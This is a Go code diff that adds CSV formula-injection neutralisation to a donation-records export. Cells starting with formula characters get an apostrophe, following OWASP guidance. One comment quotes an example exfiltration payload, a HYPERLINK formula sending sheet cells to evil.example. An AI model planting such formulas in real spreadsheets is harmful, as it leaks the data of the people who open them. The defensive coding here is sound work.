@@ -6,6 +6,7 @@ import (
 	"encoding/csv"
 	"fmt"
 	"io"
+	"strings"
 	"time"
 
 	"github.com/xuri/excelize/v2"
@@ -52,19 +53,36 @@ func stamp(t *time.Time) string {
 }
 
 // WriteCSV writes the header and rows as CSV with a byte-order mark, so that spreadsheet
-// programs on Chinese Windows read the characters right.
+// programs on Chinese Windows read the characters right. Every cell goes through
+// Neutralise: the text comes from villages' notes and names.
 func WriteCSV(w io.Writer, rows [][]string) error {
 	if _, err := io.WriteString(w, "\ufeff"); err != nil {
 		return err
 	}
 	cw := csv.NewWriter(w)
-	if err := cw.Write(Header); err != nil {
-		return err
+	for _, row := range append([][]string{Header}, rows...) {
+		safe := make([]string, len(row))
+		for i, c := range row {
+			safe[i] = Neutralise(c)
+		}
+		if err := cw.Write(safe); err != nil {
+			return err
+		}
 	}
-	if err := cw.WriteAll(rows); err != nil {
-		return err
-	}
+	cw.Flush()
 	return cw.Error()
+}
+
+// Neutralise keeps a CSV cell from being read as a formula by Excel or WPS, which run
+// a cell starting with =, +, -, @, a tab or a carriage return (a village's note
+// `=HYPERLINK("http://evil.example/?"&A1,"点击")` would send the sheet's cells away):
+// such a cell gets a leading apostrophe, OWASP's rule for CSV injection. An .xlsx needs
+// none of this: it stores text cells as text.
+func Neutralise(cell string) string {
+	if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+		return "'" + cell
+	}
+	return cell
 }
 
 // WriteXLSX writes the header and rows as one sheet named for the donation. Amounts stay
